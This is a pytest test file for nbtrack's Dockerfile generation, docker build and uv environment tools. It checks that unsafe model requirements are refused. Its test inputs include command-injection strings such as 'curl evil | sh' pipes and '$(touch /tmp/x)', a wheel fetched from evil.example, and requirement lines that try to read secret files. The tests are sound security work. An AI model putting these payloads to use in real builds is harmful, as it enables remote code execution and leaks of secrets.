"""Dockerfiles, and environments of models."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest
from typer.testing import CliRunner

import nbtrack.pyfunc
from nbtrack.cli.main import app
from nbtrack.errors import InvalidValueError, NbtrackError
from nbtrack.serving import image
from nbtrack.version import __version__

if TYPE_CHECKING:
    from pathlib import Path


@pytest.fixture
def commands(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Programs named docker and uv that write down how they were called; and fail when told."""
    folder = tmp_path / "bin"
    folder.mkdir()
    for name in ("docker", "uv"):
        path = folder / name
        path.write_text(
            f"#!{sys.executable}\nimport json, sys\nopen({str(tmp_path / 'calls')!r}, 'a').write(json.dumps(sys.argv[1:]) + '\\n')\n"
            f"sys.exit('fail' in ' '.join(sys.argv))\n"
        )
        path.chmod(0o755)
    monkeypatch.setenv("PATH", f"{folder}{os.pathsep}{os.environ['PATH']}")
    return tmp_path / "calls"


def calls(path: Path) -> list[list[str]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_a_dockerfile_serves_the_model_beside_it(folder: Path, tmp_path: Path) -> None:
    done = CliRunner().invoke(
        app,
        [
            "models",
            "generate-dockerfile",
            "-m",
            str(folder),
            "-d",
            str(tmp_path / "image"),
            "--store",
            str(tmp_path / "s.duckdb"),
        ],
    )
    assert done.exit_code == 0, done.output
    text = (tmp_path / "image" / "Dockerfile").read_text()
    assert (tmp_path / "image" / "model" / "MLmodel").read_bytes() == (folder / "MLmodel").read_bytes()
    lines = text.splitlines()
    assert f"FROM python:{sys.version_info.major}.{sys.version_info.minor}-slim" in lines
    assert "COPY --chown=server model /opt/ml/model" in lines
    assert "RUN pip install -r /opt/ml/requirements.txt" in lines
    assert (tmp_path / "image" / "requirements.txt").read_text().startswith("pandas")
    wheel = f"nbtrack-{__version__}-py3-none-any.whl"
    assert f'COPY ["{wheel}", "/opt/"]' in lines
    assert f'RUN ["pip", "install", "/opt/{wheel}[serving]"]' in lines
    _check_wheel(tmp_path / "image" / wheel, tmp_path / "installed")
    assert "USER server" in lines
    entry = json.loads(next(line for line in lines if line.startswith("ENTRYPOINT")).removeprefix("ENTRYPOINT "))
    assert entry[:4] == ["nbtrack", "models", "serve", "--model-uri"]
    assert "8080" in entry


def _check_wheel(wheel: Path, target: Path) -> None:
    """Let pip, which compares all checksums, install the wheel, and the command that it brings say its version."""
    pip = [sys.executable, "-m", "pip", "install", "--no-deps", "--no-index", "--no-compile", "--quiet", "--target"]
    subprocess.run([*pip, str(target), str(wheel)], check=True)
    command = [sys.executable, str(target / "bin" / "nbtrack"), "--version"]
    environment = {**os.environ, "PYTHONPATH": str(target)}
    done = subprocess.run(command, check=True, capture_output=True, text=True, env=environment, cwd=target)
    assert __version__ in done.stdout
    assert (target / "nbtrack" / "static" / "loader.js").is_file()


def test_an_installed_version_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(image, "is_from_index", lambda: True)
    text = image.write_dockerfile(tmp_path / "image").read_text()
    assert f'RUN ["pip", "install", "nbtrack[serving]=={__version__}"]' in text.splitlines()


def test_without_a_model_the_image_serves_what_is_mounted(tmp_path: Path) -> None:
    wheel = tmp_path / "nbtrack-9.9-py3-none-any.whl"
    wheel.write_bytes(b"wheel")
    path = image.write_dockerfile(tmp_path / "image", nbtrack=str(wheel))
    text = path.read_text()
    assert "COPY --chown" not in text
    assert 'COPY ["nbtrack-9.9-py3-none-any.whl", "/opt/"]' in text
    assert (path.parent / wheel.name).read_bytes() == b"wheel"


def test_a_folder_with_something_in_it_is_left_alone(tmp_path: Path) -> None:
    (tmp_path / "mine").write_text("x")
    with pytest.raises(InvalidValueError, match="is not empty"):
        image.write_dockerfile(tmp_path)
    with pytest.raises(InvalidValueError, match="cannot be read"):
        image.write_dockerfile(tmp_path / "new", nbtrack='x"; curl evil | sh; "')


@pytest.mark.parametrize("line", ["requests; curl evil|sh", "$(touch /tmp/x)", "-e /etc"])
def test_requirements_that_are_none_never_reach_docker_or_uv(
    folder: Path, tmp_path: Path, commands: Path, line: str
) -> None:
    (folder / "requirements.txt").write_text(f"pandas\n{line}\n")
    with pytest.raises(InvalidValueError):
        image.write_dockerfile(tmp_path / "image", str(folder))
    with pytest.raises(InvalidValueError):
        image.make_environment(tmp_path / "env", str(folder))
    assert not commands.exists()


def test_docker_is_called_with_words(folder: Path, tmp_path: Path, commands: Path) -> None:
    store = str(tmp_path / "s.duckdb")
    done = CliRunner().invoke(
        app, ["models", "build-docker", "-m", str(folder), "-n", "team/fraud:3", "--store", store]
    )
    assert done.exit_code == 0, done.output
    ((build, tag, name, dashes, _),) = calls(commands)
    assert [build, tag, name, dashes] == ["build", "--tag", "team/fraud:3", "--"]
    for bad in ("--privileged", "Fraud", "a b", ""):
        with pytest.raises(InvalidValueError, match="no name of an image"):
            image.build(tmp_path, bad)
    with pytest.raises(NbtrackError, match="did not succeed"):
        image.build(tmp_path, "fail")


def test_an_environment_is_made_by_uv(folder: Path, tmp_path: Path, commands: Path) -> None:
    python = image.make_environment(tmp_path / "env", str(folder))
    assert python == tmp_path / "env" / "bin" / "python"
    made, installed = calls(commands)
    assert made == ["venv", "--python", f"{sys.version_info.major}.{sys.version_info.minor}", str(tmp_path / "env")]
    assert installed[:4] == ["pip", "install", "--python", str(python)]
    assert "pandas" in installed[4]


def test_code_from_elsewhere_needs_leave(folder: Path, tmp_path: Path, commands: Path) -> None:
    (folder / "requirements.txt").write_text("pandas\nevil @ https://evil.example/x.whl\n")
    with pytest.raises(InvalidValueError):
        image.make_environment(tmp_path / "env", str(folder))
    assert not commands.exists()


def test_what_is_not_installed_is_said(folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setitem(sys.modules, "uv", None)
    with pytest.raises(NbtrackError, match="pip install uv"):
        image.make_environment(tmp_path / "env", str(folder))
    with pytest.raises(NbtrackError, match="Docker is not installed"):
        image.build(tmp_path, "fraud")


def test_uv_itself_makes_an_environment(folder: Path, tmp_path: Path) -> None:
    (folder / "requirements.txt").write_text("packaging\n")
    python = image.make_environment(tmp_path / "env", str(folder))
    done = subprocess.run(
        [python, "-c", "import packaging; print('there')"], capture_output=True, text=True, check=True
    )
    assert done.stdout == "there\n"


@pytest.mark.parametrize(
    "line", ["-r {secret}", "-r{secret}", "--requirement={secret}", "-c {secret}", "-c ../secret", "-r constraints.txt"]
)
def test_files_that_requirements_name_are_not_read(folder: Path, tmp_path: Path, commands: Path, line: str) -> None:
    (tmp_path / "secret").write_text("hunter2\n")
    (folder / "requirements.txt").write_text(line.format(secret=tmp_path / "secret"))
    for work in (
        lambda: image.make_environment(tmp_path / "env", str(folder)),
        lambda: image.write_dockerfile(tmp_path / "image", str(folder)),
    ):
        with pytest.raises(InvalidValueError, match="is not read") as refused:
            work()
        assert "hunter2" not in str(refused.value)
    assert not commands.exists()


@pytest.mark.parametrize("file", ["requirements.txt", "python_env.yaml"])
def test_links_in_place_of_requirements_are_not_followed(
    folder: Path, tmp_path: Path, commands: Path, file: str
) -> None:
    (tmp_path / "secret").write_text("hunter2\n")
    (folder / file).unlink(missing_ok=True)
    (folder / file).symlink_to(tmp_path / "secret")
    with pytest.raises(InvalidValueError, match="through a link"):
        image.make_environment(tmp_path / "env", str(folder))
    if file == "requirements.txt":
        with pytest.raises(InvalidValueError, match="through a link"):
            nbtrack.pyfunc.get_model_dependencies(folder)
    assert not commands.exists()


def test_constraints_beside_the_requirements_are_kept(folder: Path, tmp_path: Path, commands: Path) -> None:
    (folder / "requirements.txt").write_text("numpy\n-c constraints.txt\n")
    (folder / "constraints.txt").write_text("numpy<3\n")
    image.make_environment(tmp_path / "env", str(folder))
    assert "--constraint" in commands.read_text()
    text = image.write_dockerfile(tmp_path / "image", str(folder)).read_text()
    assert "COPY constraints.txt /opt/ml/" in text
    assert (tmp_path / "image" / "constraints.txt").read_text() == "numpy<3\n"
